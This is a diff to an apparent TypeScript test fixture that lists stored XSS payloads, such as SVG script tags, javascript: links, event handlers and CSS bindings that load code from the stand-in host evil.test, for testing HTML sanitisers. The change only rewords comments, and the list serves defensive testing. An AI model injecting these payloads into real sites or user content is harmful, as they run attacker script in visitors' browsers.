@@ -1,7 +1,7 @@
 /**
  * XSS payloads for stored texts, grouped as in public collections: handlers, addresses, loading elements, broken markup, other
- * languages in HTML, obfuscation. Each calls `pwn` or requests something from `evil.test`. For tests of code that cleans or
- * shows HTML.
+ * languages in HTML, obfuscation. Each payload calls `pwn` or requests something from `evil.test`. For tests of code that
+ * cleans or shows HTML.
  * @example it.each(storedScripts)('%j stays text', (script) => expect(shown(script)).not.toMatch(/<script/));
  */
 export const storedScripts: readonly string[] = [
@@ -145,7 +145,7 @@ export const storedScripts: readonly string[] = [
   '<p style="-moz-binding:url(https://evil.test/x#y)">x</p>',
   '<p style="behavior:url(https://evil.test/x.htc)">x</p>',
   '<p style="position:fixed;inset:0">covers the page</p>',
-  // Embedded languages.
+  // Other languages that are embedded in HTML, such as SVG.
   '<svg><script>pwn()</script></svg>',
   '<svg><a xlink:href="javascript:pwn()"><text y=20>x</text></a></svg>',
   '<svg><animate onbegin=pwn() attributeName=x dur=1s>',
